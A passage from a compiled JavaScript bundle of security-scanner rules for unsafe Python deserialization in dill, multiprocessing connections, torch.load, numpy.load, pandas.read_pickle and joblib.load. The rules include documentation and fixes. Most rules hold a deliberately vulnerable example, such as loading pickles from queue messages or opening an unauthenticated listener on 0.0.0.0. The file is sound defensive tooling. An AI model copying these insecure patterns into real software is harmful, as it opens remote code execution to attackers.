  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "dill", "pickle", "rce", "cwe-502"],
  bundles: ["lang", "deserialization"],
  banditIds: ["B301"],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-005"],
  prefilter: ["dill"],
  sinks: [
    { call: ["dill.load", "dill.loads", "dill.Unpickler"], subclasses: true, references: true, message: message5 },
    { call: ["dill.load_session", "dill.load_module", "dill.load_module_asdict", "dill.temp.load", "dill.temp.loadIO"], message: message5 }
  ],
  docs: {
    summary: "Detects dill deserialization (`dill.loads`, `dill.load`, `dill.Unpickler`, `dill.load_session`/`load_module`), which executes arbitrary code from its input.",
    description: "`dill` extends pickle so that it can serialize functions, lambdas, closures, classes and entire interpreter sessions. Loading dill data is loading pickle, with even more machinery to rebuild code: any dill payload can import modules and call functions. This rule reports `dill.loads`, `dill.load`, `dill.Unpickler` (and local subclasses), `dill.load_session`, `dill.load_module`, `dill.load_module_asdict`, `dill.temp.load` and `dill.temp.loadIO`, also through `dill.dill`/`dill._dill`, aliases, rebinding and dynamic imports, and `dill.loads` passed as a callback.",
    securityImplications: "Anyone who can influence the bytes (a cached result, a message on a queue, a session file, an uploaded model or notebook state) runs code with the privileges of the process. dill is common in data science and multiprocessing stacks (`pathos`, `multiprocess`), where serialized closures move between machines: a compromised worker or broker then reaches every consumer.",
    howToFix: "Do not load dill data across a trust boundary. Exchange data with `json`, `msgpack` or `safetensors`, and send function names or identifiers instead of code. If dill must stay for data the process produced itself, sign it with an HMAC and verify it (`hmac.compare_digest`) before loading.",
    fixHint: "Exchange data (JSON, msgpack, safetensors), not serialized code; verify an HMAC before loading your own dill data.",
    vulnerableExample: [
      "import dill",
      "",
      "def run_task(message):",
      "    task = dill.loads(message.body)  # the message decides what code runs",
      "    return task()"
    ].join("\n"),
    safeExample: [
      "import json",
      "",
      'TASKS = {"resize": resize_image, "thumbnail": make_thumbnail}',
      "",
      "def run_task(message):",
      "    spec = json.loads(message.body)",
      '    return TASKS[spec["name"]](**spec["args"])  # only known functions'
    ].join("\n"),
    detectionScope: "Calls of `dill.load`, `dill.loads`, `dill.Unpickler`, `dill.load_session`, `dill.load_module`, `dill.load_module_asdict`, `dill.temp.load`, `dill.temp.loadIO`, resolved through imports (including `dill.dill`/`dill._dill`), aliases, star imports, rebinding and constant dynamic imports; instantiation of local subclasses of `dill.Unpickler`; and `dill.load`/`dill.loads` passed uncalled as a callback (medium confidence). `dill.dump`, `dill.dumps` and `dill.dump_session` are not findings. `torch.load(..., pickle_module=dill)` is covered by PYTHON-ML-SEC-001.",
    references: [
      { title: "dill documentation", url: "https://dill.readthedocs.io/en/latest/" },
      { title: "dill on PyPI (security note: dill is not secure against untrusted data)", url: "https://pypi.org/project/dill/" },
      { title: "Ruff S301: suspicious-pickle-usage (pickle and dill)", url: "https://docs.astral.sh/ruff/rules/suspicious-pickle-usage/" },
      ...DESERIALIZATION_REFERENCES
    ],
    faq: [
      {
        question: "Is dill safer than pickle because it is a different library?",
        answer: "No. dill produces and consumes pickle streams and adds support for code objects; everything that makes pickle dangerous applies."
      },
      {
        question: "We use dill only between our own worker processes.",
        answer: "Then the risk is whoever can reach the transport (queue, socket, shared storage). Authenticate payloads with an HMAC or keep the channel private, and suppress the finding with a justification."
      },
      { question: "Is `dill.dumps` reported?", answer: "No. Serializing runs no attacker-controlled code; only loading is reported." }
    ]
  }
});

// src/rules/python/PYTHON-LANG-SEC-073.ts
var CLIENT_RECV = "multiprocessing.connection.Client().recv";
var LISTENER_RECV = "multiprocessing.connection.Listener().accept().recv";
var LISTENER = "multiprocessing.connection.Listener()";
var AUTHKEY_POSITION = { client: 2, listener: 3 };
function endpoint(m) {
  if (!m.receiver) return void 0;
  if (m.target === CLIENT_RECV) return { args: m.receiver.args, kind: "client" };
  const callee = childByField(m.receiver.call, "function");
  const object = callee?.type === "attribute" ? childByField(callee, "object") : void 0;
  if (!object) return void 0;
  const built = m.model.resolve(object, m.receiver.scope).find((r) => r.name === LISTENER && r.constructedBy);
  return built?.constructedBy ? { args: new CallArguments(built.constructedBy.call, m.model.tree.source), kind: "listener" } : void 0;
}
function check3(m) {
  const end = endpoint(m);
  const peer = m.target === CLIENT_RECV ? "the server it connects to" : "any client that connects";
  if (!end) return {};
  const authkey = end.args.find("authkey", AUTHKEY_POSITION[end.kind]);
  if (authkey && authkey.type !== "none") {
    return {
      severity: "medium",
      message: `${spelled(m)} unpickles what ${peer} sends; the connection is authenticated with an authkey, so only key holders can run code here. Keep the key secret, or exchange bytes with \`recv_bytes\` and decode them as JSON.`
    };
  }
  if (end.args.mayBeHidden("authkey", AUTHKEY_POSITION[end.kind])) {
    return { confidence: "medium", message: message6(m) };
  }
  return {};
}
function message6(m) {
  const peer = m.target === CLIENT_RECV ? "the server it connects to" : "any client that connects";
  return `${spelled(m)} unpickles whatever ${peer} sends, without an authkey: anyone who can reach the address runs code in this process. Use \`recv_bytes\` with a data-only format (JSON), and pass an \`authkey\` to Listener/Client.`;
}
var PYTHON_LANG_SEC_073_default = defineRule({
  id: "PYTHON-LANG-SEC-073",
  name: "Multiprocessing Connection recv Unpickles Network Data",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "multiprocessing", "network", "pickle", "rce", "cwe-502"],
  bundles: ["lang", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-008"],
  prefilter: ["multiprocessing"],
  sinks: [{ call: [CLIENT_RECV, LISTENER_RECV], check: check3, message: message6 }],
  docs: {
    summary: "Detects `Connection.recv()` on `multiprocessing.connection` sockets (from `Client(...)` or `Listener(...).accept()`), which unpickles whatever the peer sends.",
    description: "`multiprocessing.connection.Listener` and `Client` open TCP or Unix sockets (or Windows named pipes). Their `Connection.send`/`recv` pair pickles objects: `recv()` is `pickle.loads(self.recv_bytes())`. Without an `authkey`, no handshake happens, so any process that can reach the address can send a pickle that runs code in the receiver. This rule reports `recv()` on connections obtained from `Client(...)` or from `Listener(...).accept()`, followed through variables and `with` statements; it is high severity without an authkey and medium with one (the HMAC handshake limits the peer to key holders, but the data is still unpickled). `recv_bytes()` is not reported.",
    securityImplications: "A listener bound to a network interface without an authkey is an unauthenticated remote-code-execution service. Even on localhost or a Unix socket, every local user or container sharing the network namespace can connect. A client that calls `recv()` trusts the server completely: connecting to a spoofed or compromised address hands it code execution.",
    howToFix: "Exchange bytes with `send_bytes`/`recv_bytes` and encode them as JSON or msgpack. If objects must be pickled between cooperating processes, always pass a strong random `authkey` to both `Listener` and `Client` (the documentation's own recommendation), bind to a private address, and keep the key out of logs and repositories.",
    fixHint: "Use recv_bytes() with JSON; if pickling between trusted processes, always set a secret authkey.",
    vulnerableExample: [
      "from multiprocessing.connection import Listener",
      "",
      'with Listener(("0.0.0.0", 6000)) as listener:',
      "    with listener.accept() as conn:",
      "        job = conn.recv()  # any client's pickle runs here"
    ].join("\n"),
    safeExample: [
      "import json",
      "from multiprocessing.connection import Listener",
      "",
      'with Listener(("127.0.0.1", 6000), authkey=SECRET) as listener:',
      "    with listener.accept() as conn:",
      "        job = json.loads(conn.recv_bytes())  # data only, authenticated peer"
    ].join("\n"),
    detectionScope: "`recv()` calls whose receiver resolves to `multiprocessing.connection.Client(...)` or to `multiprocessing.connection.Listener(...).accept()`, through imports, aliases, assignments and `with ... as` bindings in the same file. The `authkey` argument (keyword, or position 2 for Client / 3 for Listener) lowers the severity when present and not None; one possibly hidden in `**kwargs` lowers the confidence. Not covered: connections passed in from other modules or created with `multiprocessing.Pipe()` between a parent and its own children, and `multiprocessing.dummy`, which passes objects through queues without pickling.",
    references: [
      { title: "Python documentation: multiprocessing.connection (Listeners and Clients, authentication keys)", url: "https://docs.python.org/3/library/multiprocessing.html#module-multiprocessing.connection" },
      { title: "Python documentation: Connection.recv security warning", url: "https://docs.python.org/3/library/multiprocessing.html#multiprocessing.connection.Connection.recv" },
      ...DESERIALIZATION_REFERENCES
    ],
    faq: [
      {
        question: "We set an authkey. Why is it still reported?",
        answer: "With an authkey only peers that know the key can send data, which is why the severity drops to medium. The data is still unpickled, so anyone holding the key (or a leaked copy) can run code. Suppress with a justification if the key is managed as a secret."
      },
      {
        question: "Is `recv_bytes` reported?",
        answer: "No. It returns raw bytes and never unpickles."
      },
      {
        question: "What about `multiprocessing.Pipe()` and Queues?",
        answer: "They connect a process to the children it started, which already run its own code; they are not reported. Managers and listeners that accept connections from outside are where untrusted peers appear."
      }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-001.ts
var HUB_LOADERS = /* @__PURE__ */ new Set(["torch.hub.load_state_dict_from_url"]);
var ADVICE3 = "Pass `weights_only=True` (add trusted classes with `torch.serialization.add_safe_globals`) or store weights as safetensors.";
function check4(m) {
  const hub = HUB_LOADERS.has(m.target);
  const given = m.args.find("weights_only", hub ? 6 : void 0);
  const weightsOnly = given?.type === "none" ? void 0 : given;
  const source = m.model.tree.source;
  if (weightsOnly) {
    const truth = literalTruth(weightsOnly, source);
    if (truth === true) return null;
    if (truth === false) {
      return {
        message: `${spelled(m)} with \`weights_only=False\` unpickles the file: a malicious checkpoint runs arbitrary code when loaded. ${ADVICE3}`
      };
    }
    return {
      severity: "medium",
      confidence: "medium",
      message: `${spelled(m)} takes \`weights_only\` from a value the analysis cannot evaluate; unless it is True, the file is unpickled and can run arbitrary code. ${ADVICE3}`
    };
  }
  if (!given && m.args.mayBeHidden("weights_only", hub ? 6 : void 0)) {
    return {
      severity: "medium",
      confidence: "medium",
      message: `${spelled(m)} may receive \`weights_only\` through \`*args\`/\`**kwargs\`; unless it is True, the file is unpickled and can run arbitrary code. ${ADVICE3}`
    };
  }
  const addWeightsOnly = fix("Pass weights_only=True", [appendKeywordArgument(m, "weights_only=True")]);
  if (hub) {
    return {
      message: `${spelled(m)} defaults to \`weights_only=False\`: the downloaded file is unpickled, so whoever controls the URL or the cache runs code. ${ADVICE3}`,
      ...addWeightsOnly ? { fix: addWeightsOnly } : {}
    };
  }
  if (m.args.find("pickle_module", 2)) {
    return {
      message: `${spelled(m)} with a custom \`pickle_module\` and no \`weights_only\` unpickles the file on every torch version: a malicious checkpoint runs arbitrary code. ${ADVICE3}`
    };
  }
  return {
    severity: "medium",
    message: `${spelled(m)} without \`weights_only\` unpickles the file on torch < 2.6 (and wherever TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD is set): a malicious checkpoint runs arbitrary code. ${ADVICE3}`,
    ...addWeightsOnly ? { fix: addWeightsOnly } : {}
  };
}
var PYTHON_ML_SEC_001_default = defineRule({
  id: "PYTHON-ML-SEC-001",
  name: "PyTorch Load Without weights_only",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "pytorch", "torch", "ml", "model", "pickle", "rce", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: ["B614"],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-002", "PYTHON-ML-SEC-004", "PYTHON-ML-SEC-006"],
  prefilter: ["torch", "model_zoo", "load_state_dict_from_url"],
  sinks: [{ call: ["torch.load", "torch.hub.load_state_dict_from_url"], check: check4, message: (m) => `${spelled(m)} unpickles the file. ${ADVICE3}` }],
  docs: {
    summary: "Detects `torch.load` (and `torch.hub.load_state_dict_from_url`) calls that do not pass `weights_only=True`, which unpickle the checkpoint and can run arbitrary code.",
    description: "PyTorch checkpoints (`.pt`, `.pth`, `.bin`, `.ckpt`) are zip archives around a pickle. `torch.load` with `weights_only=False` runs the full unpickler, so a checkpoint can execute code the moment it is loaded. `weights_only=True` switches to a restricted unpickler that rebuilds only tensors, primitive containers and explicitly allowed classes. Since torch 2.6 `weights_only=True` is the default, but older versions, the `TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD` environment variable and a custom `pickle_module` all fall back to full unpickling. `torch.hub.load_state_dict_from_url` (alias `torch.utils.model_zoo.load_url`) still defaults to `weights_only=False` and downloads the file first. This rule reports: `weights_only=False` (high), a missing argument on `torch.load` (medium; high with a custom `pickle_module`), a missing argument on `load_state_dict_from_url` (high), and a value it cannot evaluate or one hidden in `**kwargs` (medium severity, medium confidence).",
    securityImplications: "Model files are downloaded from hubs, shared in issues, attached to datasets and swapped in caches. A poisoned checkpoint carries a `__reduce__` payload that runs when the file is loaded, before any weights are used: it can steal cloud credentials and API tokens from the training machine, plant a backdoor, or tamper with other models. Public hubs have hosted such files, and tools that load checkpoints automatically (evaluation services, conversion bots, notebooks) have been compromised this way.",
    howToFix: "Load with `torch.load(path, weights_only=True)`. If the checkpoint contains your own classes, allow exactly those with `torch.serialization.add_safe_globals([MyConfig])` or the `torch.serialization.safe_globals` context manager instead of disabling the restriction. Better still, store weights with `safetensors` (`safetensors.torch.save_file` / `load_file`), which cannot carry code. Never load a checkpoint with `weights_only=False` unless you produced it yourself and its integrity is verified (a pinned hash).",
    fixHint: "Pass weights_only=True to torch.load (allow extra classes with torch.serialization.add_safe_globals), or use safetensors.",
    vulnerableExample: [
      "import torch",
      "",
      "def load_checkpoint(path):",
      '    return torch.load(path, map_location="cpu", weights_only=False)  # full unpickling'
    ].join("\n"),
    safeExample: [
      "import torch",
      "",
      "def load_checkpoint(path):",
      '    return torch.load(path, map_location="cpu", weights_only=True)  # tensors and plain containers only'
    ].join("\n"),
    detectionScope: "Calls of `torch.load`, `torch.serialization.load`, `torch.hub.load_state_dict_from_url` and `torch.utils.model_zoo.load_url`, resolved through imports, aliases, rebinding and constant dynamic imports. The `weights_only` keyword is evaluated when it is a literal (`None` counts as missing: it selects the version default); `pickle_module` is read as keyword or position 2. A call whose arguments come through `*args`/`**kwargs` is reported at medium confidence: the option may be set there, but the analysis cannot see it. Fix: a missing `weights_only` is added as `weights_only=True`; an explicit `weights_only=False` gets no automatic fix because the checkpoint may need classes that must first be allowed. Checkpoint files themselves are scanned by the artifact rules.",
    references: [
      { title: "PyTorch documentation: torch.load (weights_only and security warning)", url: "https://pytorch.org/docs/stable/generated/torch.load.html" },
      { title: "PyTorch documentation: weights_only unpickler and add_safe_globals", url: "https://pytorch.org/docs/stable/notes/serialization.html#weights-only" },
      { title: "PyTorch documentation: torch.hub.load_state_dict_from_url", url: "https://pytorch.org/docs/stable/hub.html#torch.hub.load_state_dict_from_url" },
      { title: "Bandit B614: pytorch_load", url: "https://bandit.readthedocs.io/en/latest/plugins/b614_pytorch_load.html" },
      { title: "safetensors documentation", url: "https://huggingface.co/docs/safetensors/index" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "We run torch 2.6 or later, where weights_only defaults to True. Why is a plain torch.load reported?",
        answer: "The call is safe only where it runs on torch >= 2.6 and `TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD` is not set. Stating `weights_only=True` makes the code safe on every version and documents the intent; that is why the finding is medium severity and comes with an automatic fix."
      },
      {
        question: "Our checkpoint stores an optimizer, a config object or numpy values and fails with weights_only=True.",
        answer: "Allow the specific classes with `torch.serialization.add_safe_globals` (the error message names them) instead of disabling the restriction, or save only `state_dict()`s and plain values."
      },
      {
        question: "Why is `torch.load(f, **options)` reported?",
        answer: "`weights_only` may or may not be inside `options`; the analysis cannot tell, so it reports at medium confidence. Pass `weights_only=True` explicitly to make the call self-evidently safe."
      },
      {
        question: "Is `torch.save` reported?",
        answer: "No. Saving runs no attacker-controlled code."
      }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-002.ts
var ADVICE4 = "Keep the default `allow_pickle=False` and store object data in a data-only format (JSON, Parquet, safetensors).";
var ALLOW_PICKLE_POSITION = { "numpy.load": 2, "numpy.lib.format.read_array": 1 };
function check5(m) {
  const position = ALLOW_PICKLE_POSITION[m.target];
  const allowPickle = m.args.find("allow_pickle", position);
  if (!allowPickle) {
    if (!m.args.mayBeHidden("allow_pickle", position)) return null;
    return {
      severity: "medium",
      confidence: "low",
      message: `${spelled(m)} may receive \`allow_pickle\` through \`*args\`/\`**kwargs\`; if it is True, object arrays in the file are unpickled and can run arbitrary code. ${ADVICE4}`
    };
  }
  const truth = literalTruth(allowPickle, m.model.tree.source);
  if (truth === false) return null;
  if (truth === true) {
    const toFalse = allowPickle.type === "true" ? fix("Set allow_pickle=False", [replaceNode(allowPickle, "False")]) : void 0;
    return {
      message: `${spelled(m)} with \`allow_pickle=True\` unpickles object arrays stored in the file: a crafted .npy/.npz runs arbitrary code when loaded. ${ADVICE4}`,
      ...toFalse ? { fix: toFalse } : {}
    };
  }
  return {
    confidence: "medium",
    message: `${spelled(m)} sets \`allow_pickle\` from a value that is not literally False; when it is true, object arrays in the file are unpickled and can run arbitrary code. ${ADVICE4}`
  };
}
var legacyMessage = (m) => `${spelled(m)} is a legacy NumPy alias of \`pickle.loads\`/\`pickle.load\`: it runs whatever code the bytes describe. Use \`numpy.load\` on .npy files with \`allow_pickle=False\`.`;
var PYTHON_ML_SEC_002_default = defineRule({
  id: "PYTHON-ML-SEC-002",
  name: "NumPy Load With allow_pickle",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "numpy", "ml", "pickle", "rce", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-ML-SEC-001", "PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-009"],
  prefilter: ["numpy", "read_array"],
  sinks: [
    { call: Object.keys(ALLOW_PICKLE_POSITION), check: check5, message: (m) => `${spelled(m)} may unpickle object arrays. ${ADVICE4}` },
    { call: ["numpy.loads", "numpy.ma.loads", "numpy.ma.load", "numpy.core.multiarray.loads"], references: true, message: legacyMessage }
  ],
  docs: {
    summary: "Detects `numpy.load` (and `numpy.lib.format.read_array`) with `allow_pickle` enabled, and the legacy pickle aliases `numpy.loads`/`numpy.ma.loads`, which run arbitrary code from the file.",
    description: "`.npy` and `.npz` files hold raw numeric arrays, but arrays of dtype `object` are stored as a pickle. With `allow_pickle=True`, `numpy.load` unpickles them, and a crafted file runs code as soon as it is loaded. NumPy changed the default to `allow_pickle=False` in 1.16.3 because of CVE-2019-6446; code that turns it back on, often just to silence a `ValueError`, reopens the hole. This rule reports `numpy.load` / `numpy.lib.format.read_array` when `allow_pickle` (keyword, or position 2 / 1) is `True` or any value not literally false, and the legacy `numpy.loads`, `numpy.ma.loads` and `numpy.ma.load`, which were plain pickle aliases.",
    securityImplications: "Datasets, embeddings and feature caches are routinely exchanged as `.npy`/`.npz` files downloaded from the internet or shared between teams. With pickling allowed, any of them can execute code on the machine that loads it: exfiltrate credentials from a training cluster, alter other data, or persist in the environment.",
    howToFix: "Remove `allow_pickle=True` (the default is False). If loading fails because the file contains object arrays, fix the producer: save numeric arrays only (`np.save(path, arr.astype(np.float32))`), or move strings and nested structures to JSON, Parquet or safetensors. Load object arrays only from files you produced and whose hash you verify.",
    fixHint: "Drop allow_pickle=True (the default False is safe); save object data as JSON/Parquet instead.",
    vulnerableExample: [
      "import numpy as np",
      "",
      "def load_features(path):",
      "    return np.load(path, allow_pickle=True)  # object arrays are unpickled"
    ].join("\n"),
    safeExample: [
      "import numpy as np",
      "",
      "def load_features(path):",
      "    return np.load(path)  # allow_pickle=False: numeric arrays only"
    ].join("\n"),
    detectionScope: "Calls of `numpy.load` (also `numpy.lib.npyio.load`) and `numpy.lib.format.read_array` resolved through imports, aliases (`import numpy as np`), rebinding and constant dynamic imports; `allow_pickle` is read as keyword or by position. Literal false values (`False`, `0`, `None`) and the default are safe; a non-literal value is reported at medium confidence; options passed through `*args`/`**kwargs` at low confidence. Legacy pickle aliases `numpy.loads`, `numpy.ma.loads`, `numpy.ma.load` are always reported. Fix: a literal `allow_pickle=True` becomes `allow_pickle=False`, which loads every numeric file exactly as before. The `.npy` files themselves are scanned by the artifact rules.",
    references: [
      { title: "NumPy documentation: numpy.load (allow_pickle warning)", url: "https://numpy.org/doc/stable/reference/generated/numpy.load.html" },
      { title: "NumPy documentation: the .npy format and object arrays", url: "https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html" },
      { title: "CVE-2019-6446: numpy.load pickle default", url: "https://nvd.nist.gov/vuln/detail/CVE-2019-6446" },
      { title: "NumPy 1.16.3 release notes: allow_pickle defaults to False", url: "https://numpy.org/doc/stable/release/1.16.3-notes.html" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: 'numpy.load raised "Object arrays cannot be loaded when allow_pickle=False". Should we set it to True?',
        answer: "Only for files you produced yourself and whose integrity you verify. The error means the file contains a pickle; change how it is written (numeric dtypes, or JSON/Parquet for strings and structures) instead."
      },
      {
        question: "Is `numpy.load(path)` without allow_pickle reported?",
        answer: "No. Since NumPy 1.16.3 the default is False, which refuses object arrays."
      },
      {
        question: "Why is `np.load(path, allow_pickle=flag)` reported?",
        answer: "The analysis cannot prove `flag` is false. It is reported at medium confidence; if the value is a constant False, write it literally."
      }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-003.ts
var message7 = unpicklingMessage(
  "pickle (pandas.read_pickle is pickle.load with decompression)",
  "Never read pickles from untrusted sources; exchange DataFrames as Parquet, Feather, CSV or JSON."
);
var PYTHON_ML_SEC_003_default = defineRule({
  id: "PYTHON-ML-SEC-003",
  name: "Pandas read_pickle of Untrusted Data",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "pandas", "ml", "data", "pickle", "rce", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: ["B301"],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-004", "PYTHON-ML-SEC-010"],
  prefilter: ["pandas", "read_pickle", "pickle_compat"],
  sinks: [
    {
      call: ["pandas.read_pickle", "pandas.compat.pickle_compat.load", "pandas.compat.pickle_compat.loads"],
      references: true,
      message: message7
    }
  ],
  docs: {
    summary: "Detects `pandas.read_pickle`, which unpickles its input and runs any code a crafted file contains.",
    description: "`pandas.read_pickle` opens a path, URL or buffer, decompresses it if needed, and calls `pickle.load`. It accepts any pickle, not only DataFrames, so a file named `data.pkl` is an executable as far as Python is concerned. This rule reports `pandas.read_pickle` (also as `pd.read_pickle`, `pandas.io.pickle.read_pickle`, Modin's `modin.pandas.read_pickle`) and pandas' internal `pandas.compat.pickle_compat.load`/`loads`, through aliases, rebinding, constant dynamic imports, and when passed as a callback.",
    securityImplications: 'Pickled DataFrames are shared through notebooks, object storage buckets, dataset hubs and email. `read_pickle` also accepts URLs (`pd.read_pickle("https://...")`, `s3://...`), so a changed remote object is enough to run code on every machine that loads it: analysts\' laptops, scheduled jobs, training clusters with cloud credentials.',
    howToFix: "Store and exchange tabular data as Parquet (`df.to_parquet` / `pd.read_parquet`), Feather, CSV or JSON, none of which can carry code. Keep `read_pickle` for short-lived local caches that only your process writes, in a directory nobody else can write.",
    fixHint: "Use Parquet/Feather/CSV (pd.read_parquet) instead of pickle for data others can provide.",
    vulnerableExample: [
      "import pandas as pd",
      "",
      "def load_dataset(url):",
      "    return pd.read_pickle(url)  # a crafted pickle runs code"
    ].join("\n"),
    safeExample: [
      "import pandas as pd",
      "",
      "def load_dataset(url):",
      "    return pd.read_parquet(url)  # columnar data only"
    ].join("\n"),
    detectionScope: "Calls of `pandas.read_pickle`, `pandas.io.pickle.read_pickle`, `modin.pandas.read_pickle` and `pandas.compat.pickle_compat.load`/`loads`, resolved through imports, aliases, rebinding and constant dynamic imports, and these functions passed uncalled as a callback (medium confidence). `DataFrame.to_pickle` and `DataFrame.read_pickle`-like methods of other objects are not findings. HDF5 stores that may unpickle object columns are covered by PYTHON-ML-SEC-010.",
    references: [
      { title: "pandas documentation: read_pickle (security warning)", url: "https://pandas.pydata.org/docs/reference/api/pandas.read_pickle.html" },
      { title: "pandas documentation: IO tools, pickling", url: "https://pandas.pydata.org/docs/user_guide/io.html#pickling" },
      { title: "Bandit B301: pickle (includes pandas.read_pickle)", url: "https://bandit.readthedocs.io/en/latest/blacklists/blacklist_calls.html#b301-pickle" },
      { title: "Ruff S301: suspicious-pickle-usage", url: "https://docs.astral.sh/ruff/rules/suspicious-pickle-usage/" },
      ...DESERIALIZATION_REFERENCES.slice(0, 3)
    ],
    faq: [
      {
        question: "read_pickle is much faster than CSV. What should we use instead?",
        answer: "Parquet or Feather are as fast or faster for typical DataFrames, keep dtypes, and cannot execute code."
      },
      {
        question: "Is `df.to_pickle(path)` reported?",
        answer: "No. Writing a pickle runs no attacker-controlled code; only reading is reported."
      },
      {
        question: "The pickle is a cache our own job writes. Is this a false positive?",
        answer: "If nobody else can write that location, the risk is low: suppress the finding with that justification."
      }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-004.ts
var message8 = unpicklingMessage(
  "joblib, which stores models as pickles",
  "Load only models you produced and verified (pinned hash); to share scikit-learn models, use skops.io, ONNX or another format without code."
);
var PYTHON_ML_SEC_004_default = defineRule({
  id: "PYTHON-ML-SEC-004",
  name: "Joblib Load of Untrusted Model",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "joblib", "scikit-learn", "ml", "model", "pickle", "rce", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-ML-SEC-001", "PYTHON-ML-SEC-003", "PYTHON-ML-SEC-011"],
  prefilter: ["joblib"],
  sinks: [{ call: ["joblib.load"], references: true, message: message8 }],
  docs: {
    summary: "Detects `joblib.load` (also `sklearn.externals.joblib.load`), which unpickles model files and runs any code they contain.",
    description: "joblib is the standard way to persist scikit-learn models (`.joblib`, `.pkl`). Its format is pickle with numpy arrays stored alongside, and `joblib.load` runs the full unpickler: a model file can execute code when loaded. This rule reports `joblib.load`, also reached as `sklearn.externals.joblib.load`, `joblib.numpy_pickle.load`, through aliases, rebinding, constant dynamic imports, and when passed as a callback.",
    securityImplications: "Models are downloaded from hubs, shared between teams and fetched by serving infrastructure from object storage. Anyone who can replace the file (a compromised bucket, a malicious upload, a typo-squatted hub repository) runs code in the training or serving environment, usually one with data access and cloud credentials.",
    howToFix: "Load only files you produced, from storage only you can write, and verify a pinned SHA-256 before loading. To exchange scikit-learn models, use `skops.io.dump`/`skops.io.load` (which refuses unknown types unless you trust them explicitly) or export to ONNX; keep training data and parameters in data-only formats.",
    fixHint: "Verify a pinned hash before joblib.load, or share models with skops.io/ONNX instead of pickle.",
    vulnerableExample: [
      "import joblib",
      "",
      "def load_model(path):",
      "    return joblib.load(path)  # any pickle payload runs here"
    ].join("\n"),
    safeExample: [
      "import skops.io as sio",
      "",
      "def load_model(path):",
      "    unknown = sio.get_untrusted_types(file=path)",
      "    if unknown:",
      '        raise ValueError(f"refusing untrusted types: {unknown}")',
      "    return sio.load(path)"
    ].join("\n"),
    detectionScope: "Calls of `joblib.load`, `joblib.numpy_pickle.load` and `sklearn.externals.joblib.load`, resolved through imports, aliases, rebinding and constant dynamic imports, and `joblib.load` passed uncalled as a callback (medium confidence). `joblib.dump`, `joblib.Memory` and `joblib.Parallel` are not findings. Every call is reported, since the analysis does not prove where the file comes from; `.joblib`/`.pkl` files themselves are scanned by the artifact rules.",
    references: [
      { title: "joblib documentation: persistence (security warning)", url: "https://joblib.readthedocs.io/en/stable/persistence.html" },
      { title: "scikit-learn documentation: model persistence and security", url: "https://scikit-learn.org/stable/model_persistence.html" },
      { title: "skops documentation: secure persistence", url: "https://skops.readthedocs.io/en/stable/persistence.html" },
      ...DESERIALIZATION_REFERENCES
    ],
    faq: [
      {
        question: "joblib is not pickle, is it?",
        answer: "It is pickle with efficient storage for numpy arrays. Loading a joblib file runs the pickle virtual machine with all its risks."
      },
      {
        question: "We only load models our own training pipeline wrote.",
        answer: "Then the trust boundary is the storage: make sure only the pipeline can write it, verify a hash recorded at training time, and suppress the finding with that justification."
      },
      { question: "Is `joblib.dump` reported?", answer: "No. Only loading is reported." }
    ]
  }
});

// src/rules/python/PYTHON-ML-SEC-005.ts
var message9 = unpicklingMessage(
  "cloudpickle (pickle, plus code objects for functions and classes)",
  "Never load cloudpickle data from an untrusted source; send data in JSON/msgpack and refer to code by name."
);
var PYTHON_ML_SEC_005_default = defineRule({
  id: "PYTHON-ML-SEC-005",
  name: "Cloudpickle Deserialization of Untrusted Data",
  language: "python",
  severity: "high",
  confidence: "high",
  precision: "high",
  cwe: ["CWE-502"],
  owasp: ["A08:2021"],
  compliance: DESERIALIZATION_COMPLIANCE,
  tags: ["security", "deserialization", "cloudpickle", "ml", "distributed", "pickle", "rce", "cwe-502"],
  bundles: ["ml", "deserialization"],
  banditIds: [],
  similar: ["PYTHON-LANG-SEC-040", "PYTHON-LANG-SEC-046"],
  prefilter: ["cloudpickle", "srsly"],
  sinks: [{ call: ["cloudpickle.load", "cloudpickle.loads", "srsly.pickle_loads"], references: true, message: message9 }],
  docs: {
    summary: "Detects cloudpickle deserialization (`cloudpickle.loads`, `cloudpickle.load`, and wrappers such as `srsly.pickle_loads`), which runs arbitrary code from its input.",
